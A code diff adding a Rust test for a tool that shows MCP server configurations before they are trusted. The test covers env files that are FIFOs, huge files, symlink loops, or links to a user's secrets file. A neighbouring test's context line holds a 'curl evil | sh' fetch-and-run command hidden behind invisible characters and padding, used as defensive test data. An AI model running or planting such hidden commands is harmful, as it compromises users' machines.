@@ -137,6 +137,51 @@ fn files_of_the_person_are_pointed_out() {
     "#);
 }
 
+#[expect(clippy::disallowed_methods, reason = "a test makes a pipe")]
+#[test]
+fn an_environment_file_is_shown_for_what_it_is() {
+    let world = World::new().home(".secrets", "AWS_KEY=s3cret\n").project(
+        ".wharf/mcp.json",
+        r#"{ "mcpServers": { "fifo": { "command": "x", "envFile": "pipe" },
+             "huge": { "command": "x", "envFile": "huge" }, "link": { "command": "x", "envFile": "link" },
+             "loop": { "command": "x", "envFile": "loop" }, "own": { "command": "x", "envFile": "~/.secrets" } } }"#,
+    );
+    let at = |name: &str| world.path("project").join(name);
+    std::os::unix::fs::symlink(world.path("home/.secrets"), at("link")).unwrap();
+    std::os::unix::fs::symlink("loop", at("loop")).unwrap();
+    let made = std::process::Command::new("mkfifo").arg(at("pipe")).status().unwrap();
+    assert!(made.success());
+    std::fs::File::create(at("huge")).unwrap().set_len(1 << 30).unwrap();
+    assert_snapshot!(world.run("trust --all"), @r#"
+    exit 0
+    --- stdout
+    Trusted "fifo", "huge", "link", "loop" and "own" as written now.
+    --- stderr
+    "fifo" from [project]/.wharf/mcp.json:1 (Wharf)
+      command        x
+      env file       pipe  (cannot be read)
+      approval       ask (each call needs approval)
+    "huge" from [project]/.wharf/mcp.json:2 (Wharf)
+      command        x
+      env file       huge  (cannot be read)
+      approval       ask (each call needs approval)
+    "link" from [project]/.wharf/mcp.json:2 (Wharf)
+      command        x
+      env file       link (is ~/.secrets)  (warning: a file of yours, not of this project)
+                     sets AWS_KEY=•••  (may change what it does)
+      approval       ask (each call needs approval)
+    "loop" from [project]/.wharf/mcp.json:3 (Wharf)
+      command        x
+      env file       loop  (cannot be read)
+      approval       ask (each call needs approval)
+    "own" from [project]/.wharf/mcp.json:3 (Wharf)
+      command        x
+      env file       ~/.secrets  (warning: a file of yours, not of this project)
+                     sets AWS_KEY=•••  (may change what it does)
+      approval       ask (each call needs approval)
+    "#);
+}
+
 #[test]
 fn nothing_in_an_entry_stays_unseen() {
     let hidden = format!("a\u{3164}\u{200b}b{}; curl evil | sh", " ".repeat(400));
